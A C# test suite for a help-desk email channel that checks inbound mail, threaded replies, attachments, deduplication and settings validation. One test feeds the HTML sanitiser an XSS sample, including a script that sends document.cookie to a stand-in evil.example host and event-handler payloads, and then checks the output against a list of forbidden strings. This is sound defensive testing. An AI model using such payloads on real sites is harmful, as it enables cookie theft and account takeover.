using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using KefuDesk.Features.Channels;
using KefuDesk.Features.Channels.Delivery;
using KefuDesk.Features.Channels.Email;
using KefuDesk.Features.Conversations;
using KefuDesk.Infrastructure.Data;
using KefuDesk.Tests.Features.Conversations;
using KefuDesk.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;

namespace KefuDesk.Tests.Features.Channels;

/// <summary>
/// The email channel end to end through real mail servers: buyers' mail goes in by SMTP (Postfix)
/// and is read by KefuDesk over IMAP (Dovecot); agents' replies go out by SMTP and are read back
/// from the buyer's mailbox over IMAP.
/// </summary>
public abstract class EmailTests(AppFixture fx) : IAsyncLifetime
{
    private StaffClient _admin = default!;
    private StaffClient _agent = default!;
    private EmailChannel _channel = default!;

    public async Task InitializeAsync()
    {
        _admin = await fx.SignInAsync(fx.World.Admin);
        _agent = await fx.SignInAsync(fx.World.Agent);
        _channel = await EmailChannel.ConnectAsync(fx, _admin);
    }

    public async Task DisposeAsync()
    {
        await _admin.DisposeAsync();
        await _agent.DisposeAsync();
    }

    private Task DeliverRepliesAsync() => fx.App.Services.GetRequiredService<DeliveryWorker>().RunOnceAsync(CancellationToken.None);

    private async Task<T> InDbAsync<T>(Func<KefuDeskDbContext, Task<T>> read)
    {
        await using var db = await fx.App.Services.GetRequiredService<IDbContextFactory<KefuDeskDbContext>>().CreateDbContextAsync();
        return await read(db);
    }

    /// <summary>The buyer's mail arrives through the servers and KefuDesk reads the inbox; the conversation it landed in.</summary>
    private async Task<Guid> ArrivesAsync(MimeMessage mail, EmailChannel? channel = null)
    {
        channel ??= _channel;
        await channel.DeliverAsync(mail);
        await channel.ReadInboxAsync();
        return await InDbAsync(db => db.ChannelMessageRefs.Where(r => r.ChannelAccountId == channel.Id && r.ExternalId == mail.MessageId)
            .Select(r => r.ConversationId).SingleAsync());
    }

    private async Task<List<MessageView>> MessagesAsync(Guid conversationId) =>
        (await _agent.Http.GetFromJsonAsync<MessagePage>($"/api/conversations/{conversationId}/messages", Json.Options))!.Messages.ToList();

    private async Task<MessageView> ReplyAsync(Guid conversationId, string body, Guid? attachmentId = null)
    {
        var response = await _agent.Http.PostAsJsonAsync($"/api/conversations/{conversationId}/messages",
            new { clientMessageId = Guid.NewGuid().ToString(), body, attachmentId }, Json.Options);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return (await response.Content.ReadFromJsonAsync<MessageView>(Json.Options))!;
    }

    [Fact]
    public async Task A_buyers_mail_becomes_a_conversation_on_the_email_channel_with_its_subject_and_sender()
    {
        var buyer = MailServers.NewAddress("buyer");
        var conversationId = await ArrivesAsync(_channel.MailFrom(buyer, "订单 20261122 还没发货", "你好,我上周下的单还没发货,麻烦看一下。\n谢谢!"));

        var conversation = (await _agent.Http.GetFromJsonAsync<ConversationSummary>($"/api/conversations/{conversationId}", Json.Options))!;
        Assert.Equal((Channel.Email, "订单 20261122 还没发货", "王小明"), (conversation.Channel, conversation.Subject, conversation.CustomerName));
        var message = Assert.Single(await MessagesAsync(conversationId));
        Assert.Equal((SenderKind.Customer, "你好,我上周下的单还没发货,麻烦看一下。\n谢谢!"), (message.Sender, message.Body));
        var identity = await InDbAsync(db => db.CustomerIdentities.AsNoTracking().SingleAsync(i => i.Value == buyer));
        Assert.Equal((KefuDesk.Features.Customers.IdentityKind.Email, true, conversation.CustomerId), (identity.Kind, identity.Verified, identity.CustomerId));
        Assert.Null((await ChannelAsync()).LastError);
    }

    [Fact]
    public async Task The_agents_reply_reaches_the_buyers_mailbox_threaded_and_the_buyers_answer_continues_the_conversation()
    {
        var buyer = MailServers.NewAddress("buyer");
        var first = _channel.MailFrom(buyer, "Re: 尺码问题", "这件外套 175 穿 L 还是 XL?");
        var conversationId = await ArrivesAsync(first);

        var reply = await ReplyAsync(conversationId, "亲,175 建议穿 L 码~");
        await DeliverRepliesAsync();
        var received = await MailServers.WaitForAsync(buyer, m => m.InReplyTo == first.MessageId);
        Assert.Equal("Re: 尺码问题", received.Subject);
        Assert.Equal(_channel.Address, received.From.Mailboxes.Single().Address);
        Assert.Equal("测试旗舰店客服", received.From.Mailboxes.Single().Name);
        Assert.Equal([first.MessageId!], received.References);
        Assert.StartsWith("亲,175 建议穿 L 码~", received.TextBody);
        Assert.Contains("小美", received.TextBody);
        Assert.Contains("亲,175 建议穿 L 码~", received.HtmlBody);
        Assert.True(await InDbAsync(db => db.ChannelMessageRefs.AnyAsync(r => r.ExternalId == received.MessageId && r.MessageId == reply.Id)));

        // The buyer answers in their mail program: a new subject line, the earlier mails quoted below.
        var answer = _channel.MailFrom(buyer, received.Subject!, "好的,那我拍 L 码。\n\n在 2026年11月22日 10:00,测试旗舰店客服 写道:\n> 亲,175 建议穿 L 码~");
        answer.InReplyTo = received.MessageId;
        answer.References.Add(first.MessageId!);
        answer.References.Add(received.MessageId!);
        Assert.Equal(conversationId, await ArrivesAsync(answer));
        var messages = await MessagesAsync(conversationId);
        Assert.Equal(["这件外套 175 穿 L 还是 XL?", "亲,175 建议穿 L 码~", "好的,那我拍 L 码。"], messages.Select(m => m.Body.Split("\n\n-- ")[0]));

        // The next reply names the whole thread.
        await ReplyAsync(conversationId, "好的,已为您备注");
        await DeliverRepliesAsync();
        var second = await MailServers.WaitForAsync(buyer, m => m.InReplyTo == answer.MessageId);
        Assert.Equal([first.MessageId!, received.MessageId!, answer.MessageId!], second.References);
        Assert.Equal("Re: 尺码问题", second.Subject);
    }

    [Fact]
    public async Task A_photo_arrives_as_an_image_the_agent_opens_and_a_wrong_type_file_is_refused_while_the_text_lands()
    {
        var mail = _channel.MailFrom(MailServers.NewAddress("buyer"), "收到的衣服有破洞", null);
        var body = new BodyBuilder { TextBody = "照片和发票见附件" };
        body.Attachments.Add("破洞.png", AttachmentTests.Png, new ContentType("image", "png"));
        body.Attachments.Add("invoice.exe", "MZ\x90\0\x03\0\0\0"u8.ToArray(), new ContentType("application", "octet-stream"));
        mail.Body = body.ToMessageBody();
        var attachmentsBefore = await InDbAsync(db => db.Attachments.CountAsync());

        var conversationId = await ArrivesAsync(mail);

        var messages = await MessagesAsync(conversationId);
        Assert.Equal(2, messages.Count);
        Assert.Equal(MessageKind.Text, messages[0].Kind);
        Assert.StartsWith("照片和发票见附件", messages[0].Body);
        Assert.Contains("invoice.exe", messages[0].Body);
        Assert.Contains("未接收", messages[0].Body);
        var photo = messages[1];
        Assert.Equal((MessageKind.Image, "破洞.png"), (photo.Kind, photo.Attachment!.FileName));
        Assert.Equal(AttachmentTests.Png, await _agent.Http.GetByteArrayAsync($"/api/attachments/{photo.Attachment.Id}"));
        Assert.Equal(attachmentsBefore + 1, await InDbAsync(db => db.Attachments.CountAsync())); // the refused file left nothing behind
        Assert.True(await InDbAsync(db => db.ChannelMessageRefs.AnyAsync(r => r.ExternalId == mail.MessageId + "#1")));
    }

    [Fact]
    public async Task An_agents_photo_goes_out_attached_to_the_mail()
    {
        var buyer = MailServers.NewAddress("buyer");
        var conversationId = await ArrivesAsync(_channel.MailFrom(buyer, "尺码表", "有尺码表吗"));
        var upload = await _agent.Http.PostAsync($"/api/conversations/{conversationId}/attachments", AttachmentTests.File(AttachmentTests.Png, "尺码表.png"));
        var info = (await upload.Content.ReadFromJsonAsync<KefuDesk.Features.Conversations.AttachmentInfo>(Json.Options))!;
        await ReplyAsync(conversationId, "", info.Id);
        await DeliverRepliesAsync();

        var received = await MailServers.WaitForAsync(buyer, m => m.Attachments.Any());
        var file = Assert.IsType<MimePart>(Assert.Single(received.Attachments));
        Assert.Equal("尺码表.png", file.FileName);
        using var bytes = new MemoryStream();
        await file.Content!.DecodeToAsync(bytes);
        Assert.Equal(AttachmentTests.Png, bytes.ToArray());
        Assert.Contains("尺码表.png", received.TextBody);
    }

    [Fact]
    public async Task Malicious_html_is_shown_as_harmless_text()
    {
        const string html = """
            <html><head><style>body{background:url(http://tracker.evil.example/bg.png)}</style><script>alert('head')</script></head>
            <body onload="alert('load')"><p>您好,<b>商品</b>收到了但是颜色不对</p>
            <img src="http://tracker.evil.example/pixel.png" onerror="alert('img')" alt="">
            <a href="javascript:alert('link')">点这里</a> <a href="https://shop.example.test/order/1">订单链接</a>
            <iframe src="https://evil.example/frame"></iframe><script>document.location='https://evil.example/steal?c='+document.cookie</script>
            <div style="background-image:url(https://evil.example/x.png)">请尽快处理</div></body></html>
            """;
        var conversationId = await ArrivesAsync(_channel.MailFrom(MailServers.NewAddress("buyer"), "颜色不对", text: null, html: html));

        var body = Assert.Single(await MessagesAsync(conversationId)).Body;
        Assert.Contains("您好,商品收到了但是颜色不对", body);
        Assert.Contains("点这里", body);
        Assert.Contains("订单链接 (https://shop.example.test/order/1)", body);
        Assert.Contains("请尽快处理", body);
        foreach (var bad in new[] { "alert", "script", "javascript:", "onerror", "onload", "evil.example", "<", "iframe", "document.cookie" })
        {
            Assert.DoesNotContain(bad, body, StringComparison.OrdinalIgnoreCase);
        }

        // And the sanitised HTML itself keeps no way to run code or load anything.
        var clean = MailHtml.Sanitise(html);
        Assert.DoesNotContain("script", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("src=", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("style", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", clean, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task The_same_mail_read_twice_is_one_message_even_when_the_inbox_forgot_where_it_was()
    {
        var mail = _channel.MailFrom(MailServers.NewAddress("buyer"), "发票", "请开发票,抬头:某某公司");
        var conversationId = await ArrivesAsync(mail);
        await _channel.ReadInboxAsync();

        // Someone marks the mail unread and KefuDesk's place in the mailbox is lost: it reads it again.
        await MailServers.MarkAllUnreadAsync(_channel.Address);
        await InDbAsync(db => db.ChannelAccounts.Where(a => a.Id == _channel.Id).ExecuteUpdateAsync(s => s.SetProperty(a => a.State, (string?)null)));
        await _channel.ReadInboxAsync();

        Assert.Single(await MessagesAsync(conversationId));
        Assert.Equal(1, await InDbAsync(db => db.ChannelMessageRefs.CountAsync(r => r.ChannelAccountId == _channel.Id)));
    }

    [Fact]
    public async Task Auto_replies_and_bounces_start_no_conversation()
    {
        var vacation = _channel.MailFrom(MailServers.NewAddress("buyer"), "自动回复: 休假中", "我正在休假,11 月 30 日回来。");
        vacation.Headers.Add(HeaderId.AutoSubmitted, "auto-replied");
        var bounce = _channel.MailFrom("MAILER-DAEMON@example.test", "Undelivered Mail Returned to Sender", "This is the mail system.", name: "Mail Delivery System");
        var person = _channel.MailFrom(MailServers.NewAddress("buyer"), "在吗", "在吗");
        await _channel.DeliverAsync(vacation);
        await _channel.DeliverAsync(bounce);
        await _channel.DeliverAsync(person);
        await _channel.ReadInboxAsync();

        var refs = await InDbAsync(db => db.ChannelMessageRefs.Where(r => r.ChannelAccountId == _channel.Id).Select(r => r.ExternalId).ToListAsync());
        Assert.Equal([person.MessageId!], refs);
    }

    [Fact]
    public async Task The_same_address_is_the_same_customer_whatever_its_case()
    {
        var buyer = MailServers.NewAddress("buyer");
        var first = await ArrivesAsync(_channel.MailFrom(buyer, "问题一", "第一封"));
        var second = await ArrivesAsync(_channel.MailFrom(buyer.ToUpperInvariant(), "问题二", "第二封"));

        var customers = await InDbAsync(db => db.Conversations.Where(c => c.Id == first || c.Id == second).Select(c => c.CustomerId).Distinct().CountAsync());
        Assert.Equal(1, customers);
        Assert.Equal(first, second); // still the buyer's live conversation with the shop
    }

    [Fact]
    public async Task A_wrong_mailbox_password_shows_on_the_channel_until_it_is_corrected()
    {
        var broken = await EmailChannel.ConnectAsync(fx, _admin, password: "not-the-password");
        await broken.ReadInboxAsync();

        var row = (await _admin.Http.GetFromJsonAsync<List<ChannelRow>>("/api/admin/channels", Json.Options))!.Single(c => c.Id == broken.Id);
        Assert.Contains("邮箱登录失败", row.LastError);
        Assert.NotNull(row.LastErrorAt);

        Assert.Equal(HttpStatusCode.OK, (await _admin.Http.PutAsJsonAsync($"/api/admin/channels/{broken.Id}", new { secret = MailServers.Password }, Json.Options)).StatusCode);
        var buyer = MailServers.NewAddress("buyer");
        await ArrivesAsync(broken.MailFrom(buyer, "密码改好了吗", "测试"), broken);
        row = (await _admin.Http.GetFromJsonAsync<List<ChannelRow>>("/api/admin/channels", Json.Options))!.Single(c => c.Id == broken.Id);
        Assert.Null(row.LastError);
    }

    [Fact]
    public async Task Resolving_mails_the_buyer_a_link_to_rate_the_service()
    {
        var buyer = MailServers.NewAddress("buyer");
        var conversationId = await ArrivesAsync(_channel.MailFrom(buyer, "退货地址", "退货寄到哪里?"));
        await ReplyAsync(conversationId, "寄到杭州市余杭区某某路 1 号");
        Assert.Equal(HttpStatusCode.OK, (await _agent.Http.PostAsJsonAsync($"/api/conversations/{conversationId}/resolve",
            new ResolveBody(fx.World.CategoryId, "告知退货地址", null), Json.Options)).StatusCode);
        await DeliverRepliesAsync();

        var invitation = await MailServers.WaitForAsync(buyer, m => m.TextBody?.Contains("/rate/") == true);
        Assert.Equal("Re: 退货地址", invitation.Subject);
        var link = invitation.TextBody!.Split('\n').Select(l => l.Trim()).Single(l => l.Contains("/rate/"));
        Assert.Contains($"href=\"{link}\"", invitation.HtmlBody);
        var (browser, _) = Clients.Http(fx.App);
        Assert.Contains("非常满意", await browser.GetStringAsync(link));
    }

    [Fact]
    public async Task System_notices_are_not_mailed()
    {
        var buyer = MailServers.NewAddress("buyer");
        var conversationId = await ArrivesAsync(_channel.MailFrom(buyer, "转接", "请帮我转售后"));
        await ReplyAsync(conversationId, "好的,为您转接");
        using var colleagueAtWork = await fx.AtWorkAsync(fx.World.Agent2);
        Assert.Equal(HttpStatusCode.OK, (await _agent.Http.PostAsJsonAsync($"/api/conversations/{conversationId}/transfer",
            new TransferBody(fx.World.Agent2.Id, null, null), Json.Options)).StatusCode);
        Assert.Contains(await MessagesAsync(conversationId), m => m.Kind == MessageKind.System);
        await DeliverRepliesAsync();

        await MailServers.WaitForAsync(buyer, _ => true);
        var mails = await MailServers.ReadAllAsync(buyer);
        Assert.StartsWith("好的,为您转接", Assert.Single(mails).TextBody);
        Assert.All(await InDbAsync(db => db.OutboundDeliveries.Where(d => d.ConversationId == conversationId).ToListAsync()),
            d => Assert.Equal(DeliveryStatus.Delivered, d.Status));
    }

    [Fact]
    public async Task With_idle_the_inbox_takes_mail_by_itself()
    {
        var watched = await EmailChannel.ConnectAsync(fx, _admin, useIdle: true);
        var mail = watched.MailFrom(MailServers.NewAddress("buyer"), "不用等", "这封邮件应当自己进来");
        await watched.DeliverAsync(mail);

        // No one asks the inbox to read: its watch (IDLE on the server) brings the mail in.
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(40));
        while (!await InDbAsync(db => db.ChannelMessageRefs.AnyAsync(r => r.ChannelAccountId == watched.Id && r.ExternalId == mail.MessageId)))
        {
            await Task.Delay(100, timeout.Token);
        }
    }

    [Fact]
    public async Task Settings_are_checked_with_reasons_an_admin_can_act_on()
    {
        async Task<string> Refused(object settings, string? secret = "pw")
        {
            var problem = await (await _admin.Http.PostAsJsonAsync("/api/admin/channels",
                    new { shopId = fx.World.Shop.Id, kind = "email", name = "x", settings, secret }, Json.Options))
                .AssertProblemAsync(HttpStatusCode.BadRequest, "channel_invalid");
            return problem.GetRawText();
        }

        var good = JsonSerializer.SerializeToElement(EmailChannel.Settings("shop@example.test"), Json.Options);
        JsonElement With(string path, object? value)
        {
            var node = System.Text.Json.Nodes.JsonNode.Parse(good.GetRawText())!;
            var parts = path.Split('.');
            var parent = parts.Length == 1 ? node : node[parts[0]]!;
            parent[parts[^1]] = value is null ? null : System.Text.Json.Nodes.JsonValue.Create(value);
            return JsonSerializer.SerializeToElement(node);
        }

        Assert.Contains("imap", await Refused(new { }));
        Assert.Contains("imap.port", await Refused(With("imap.port", 70000)));
        Assert.Contains("smtp.security", await Refused(With("smtp.security", "ssl3")));
        Assert.Contains("imap.userName", await Refused(With("imap.userName", null)));
        Assert.Contains("fromAddress", await Refused(With("fromAddress", "not an address")));
        Assert.Contains("pollSeconds", await Refused(With("pollSeconds", 5)));
        Assert.Contains("secret", await Refused(good, secret: null));
    }

    private Task<ChannelRow> ChannelAsync() =>
        _admin.Http.GetFromJsonAsync<List<ChannelRow>>("/api/admin/channels", Json.Options).ContinueWith(t => t.Result!.Single(c => c.Id == _channel.Id));
}

public sealed class EmailTests_Sqlite(SqliteApp fx) : EmailTests(fx), IClassFixture<SqliteApp>;

public sealed class EmailTests_Postgres(PostgresApp fx) : EmailTests(fx), IClassFixture<PostgresApp>;
